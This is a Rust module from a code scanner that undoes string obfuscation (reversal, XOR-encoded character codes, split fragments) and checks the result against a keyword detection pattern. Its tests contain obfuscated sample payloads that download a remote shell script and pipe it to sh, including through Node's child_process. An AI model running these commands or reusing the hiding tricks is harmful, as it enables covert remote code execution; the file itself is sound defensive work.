//! Strings rebuilt at run time so that the text never shows them: written backwards and
//! reversed (`echo 'hs | … lruc' | rev | sh`), character codes XOR'd with a key
//! (`String.fromCharCode(7 ^ c)`), or cut into fragments joined again (`['ht', 'tp', '://', …]`).
//! Each is rebuilt the way the code would and scanned by every rule, as decoded blobs are.
//!
//! Lists of short strings are everywhere in code; fragments count only when a word the rules
//! look for (`http`, `curl`, `eval`…) is split across them, which no list of values does.

use std::sync::LazyLock;

use regex::Regex;

use super::hidden::report;
use super::hosts::urls;
use super::{Rule, Severity, Sink};

/// The most rebuilt strings scanned in one piece of text.
const MAX_REBUILT: usize = 16;
/// The most fragments joined, and the longest fragment: past these, a list is data.
const MAX_FRAGMENTS: usize = 64;
const MAX_FRAGMENT_CHARS: usize = 12;

struct Patterns {
    reverse_gate: Regex,
    reverses: Regex,
    literal: Regex,
    xor_key: Regex,
    char_codes: Regex,
    fragments: Regex,
    fragment: Regex,
    /// Words that, split across fragments, show that the split hides them.
    hidden_word: Regex,
}

static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
    let regex = |pattern: &str| Regex::new(pattern).expect("the pattern is valid");
    Patterns {
        reverse_gate: regex(r"rev|::-1|:: -1|everse"),
        reverses: regex(
            r"(?i)\|\s*rev(?-u:\b)|\[\s*::\s*-1\s*\]|\.reverse\s*\(\s*\)|(?-u:\b)strrev\s*\(|\[array\]::reverse",
        ),
        literal: regex(r#"'([^'\n]{12,})'|"([^"\n]{12,})""#),
        xor_key: regex(
            r"(?i)\^\s*(0x[0-9a-f]{1,2}|\d{1,3})(?-u:\b)|(?-u:\b)(0x[0-9a-f]{1,2}|\d{1,3})\s*\^",
        ),
        char_codes: regex(r"(?:\d{1,3}\s*,\s*){7,}\d{1,3}"),
        fragments: regex(
            r#"(?:(?:'[^'\n]{0,12}'|"[^"\n]{0,12}")\s*(?:,|\+)\s*){3,}(?:'[^'\n]{0,12}'|"[^"\n]{0,12}")"#,
        ),
        fragment: regex(r#"'([^'\n]*)'|"([^"\n]*)""#),
        hidden_word: regex(
            r"(?i)https?://|(?-u:\b)(?:curl|wget|bash|eval|exec|powershell|child_process|subprocess|/bin/sh|invoke-expression|iex)(?-u:\b)",
        ),
    }
});

/// Rebuilds what `text` reverses, XORs or joins from fragments, and scans the result.
pub(crate) fn rebuilt(text: &str, depth: usize, sink: &mut Sink) {
    let patterns = &*PATTERNS;
    let mut scanned = 0;
    if patterns.reverse_gate.is_match(text) && patterns.reverses.is_match(text) {
        for captures in patterns.literal.captures_iter(text) {
            let Some(literal) = captures.get(1).or_else(|| captures.get(2)) else {
                continue;
            };
            let reversed: String = literal.as_str().chars().rev().collect();
            if !patterns.hidden_word.is_match(&reversed) {
                continue;
            }
            report("reversed", &reversed, literal.start(), depth, sink);
            scanned += 1;
            if scanned == MAX_REBUILT {
                return;
            }
        }
    }
    if text.contains('^') && (text.contains("harCode") || text.contains("chr(")) {
        let keys: Vec<u8> = patterns
            .xor_key
            .captures_iter(text)
            .filter_map(|captures| captures.get(1).or_else(|| captures.get(2)))
            .filter_map(|key| parse_byte(key.as_str()))
            .filter(|key| *key != 0)
            .take(4)
            .collect();
        for found in patterns.char_codes.find_iter(text) {
            let Some(codes) = found
                .as_str()
                .split(',')
                .map(|code| code.trim().parse::<u8>().ok())
                .collect::<Option<Vec<u8>>>()
            else {
                continue;
            };
            for key in &keys {
                let decoded: Vec<u8> = codes.iter().map(|code| code ^ key).collect();
                let Ok(decoded) = String::from_utf8(decoded) else {
                    continue;
                };
                if !patterns.hidden_word.is_match(&decoded) {
                    continue;
                }
                report("single-byte XOR", &decoded, found.start(), depth, sink);
                scanned += 1;
                if scanned == MAX_REBUILT {
                    return;
                }
            }
        }
    }
    // Fragments need at least three quotes followed by a separator (`'ht', 'tp'`).
    if separated_quotes(text) < 3 {
        return;
    }
    for found in patterns.fragments.find_iter(text) {
        let pieces: Vec<&str> = patterns
            .fragment
            .captures_iter(found.as_str())
            .filter_map(|captures| captures.get(1).or_else(|| captures.get(2)))
            .map(|piece| piece.as_str())
            .take(MAX_FRAGMENTS)
            .collect();
        if pieces
            .iter()
            .any(|piece| piece.chars().count() > MAX_FRAGMENT_CHARS)
        {
            continue;
        }
        let joined = pieces.concat();
        let split = patterns.hidden_word.find_iter(&joined).any(|word| {
            !pieces
                .iter()
                .any(|piece| piece.contains(&joined[word.range()]))
        });
        if !split {
            continue;
        }
        let mut inner = Sink::default();
        report("fragment-joined", &joined, found.start(), depth, &mut inner);
        if inner.hits.is_empty() {
            // An address no rule weighs is still hidden on purpose; a raw IP address or a
            // paste site hidden so is what droppers do.
            let suspicious = urls(&joined)
                .iter()
                .any(|target| target.class.is_suspicious());
            inner.hit(
                Rule::EncodedPayload,
                if suspicious {
                    Severity::High
                } else {
                    Severity::Medium
                },
                found.start(),
                format!(
                    "{} string fragments join into \"{}\": a split that hides a command or an address from review",
                    pieces.len(),
                    super::render::render_bounded(&joined, 100)
                ),
            );
        }
        sink.hits.append(&mut inner.hits);
        sink.reaches.append(&mut inner.reaches);
        scanned += 1;
        if scanned == MAX_REBUILT {
            return;
        }
    }
}

/// Counts the quotes followed, after spaces, by a comma or a plus: one pass over the bytes.
fn separated_quotes(text: &str) -> usize {
    let bytes = text.as_bytes();
    let mut count = 0;
    for (index, byte) in bytes.iter().enumerate() {
        if !matches!(byte, b'\'' | b'"') {
            continue;
        }
        let next = bytes[index + 1..].iter().find(|b| **b != b' ');
        if matches!(next, Some(b',' | b'+')) {
            count += 1;
        }
    }
    count
}

fn parse_byte(text: &str) -> Option<u8> {
    match text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
        Some(hex) => u8::from_str_radix(hex, 16).ok(),
        None => text.parse().ok(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(text: &str) -> Vec<(Rule, Severity)> {
        let mut sink = Sink::default();
        rebuilt(text, 0, &mut sink);
        sink.hits
            .into_iter()
            .map(|hit| (hit.rule, hit.severity))
            .collect()
    }

    #[test]
    fn reversed_strings_are_read_forwards() {
        assert_eq!(
            scan("echo 'hs | hs.x/7.311.0.302//:ptth Ls- lruc' | rev | sh"),
            [(Rule::EncodedPayload, Severity::Critical)]
        );
        assert_eq!(scan("echo 'hello world, reversed' | rev"), []);
    }

    #[test]
    fn xor_encoded_character_codes_are_decoded() {
        let payload = b"require('child_process').exec('curl -s http://203.0.113.77/n.sh|sh')";
        let codes: Vec<String> = payload.iter().map(|b| (b ^ 7).to_string()).collect();
        let text = format!(
            "i=[{}],a=function(){{Function(i.map(function(e){{return String.fromCharCode(7^e)}}).join(\"\"))()}}",
            codes.join(",")
        );
        assert_eq!(scan(&text), [(Rule::EncodedPayload, Severity::Critical)]);
    }

    #[test]
    fn fragments_that_split_a_word_are_joined() {
        assert_eq!(
            scan("const seg = ['ht', 'tp', '://', '198', '.51', '.100', '.7', ':80', '80/', 'v'];"),
            [(Rule::EncodedPayload, Severity::High)]
        );
        assert_eq!(
            scan("const u = 'ht' + 'tps:' + '//cdn.' + 'x.example/a';"),
            [(Rule::EncodedPayload, Severity::Medium)]
        );
        assert_eq!(
            scan("const units = ['km', 'mi', 'kg', 'lb', 'C', 'F'];"),
            []
        );
        assert_eq!(
            scan("schemes = ['http://', 'https://', 'ftp://', 'ws://']"),
            []
        );
    }
}
